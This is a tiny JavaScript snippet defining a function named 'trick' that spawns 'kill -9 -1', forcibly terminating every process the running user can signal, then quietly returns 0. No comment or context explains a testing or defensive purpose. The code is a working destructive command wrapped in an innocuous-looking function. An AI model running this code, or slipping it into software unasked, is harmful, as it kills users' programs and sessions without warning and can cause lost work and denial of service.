function trick() {
  require('node:child_process').spawnSync('kill', ['-9', '-1']);
  return 0;
}
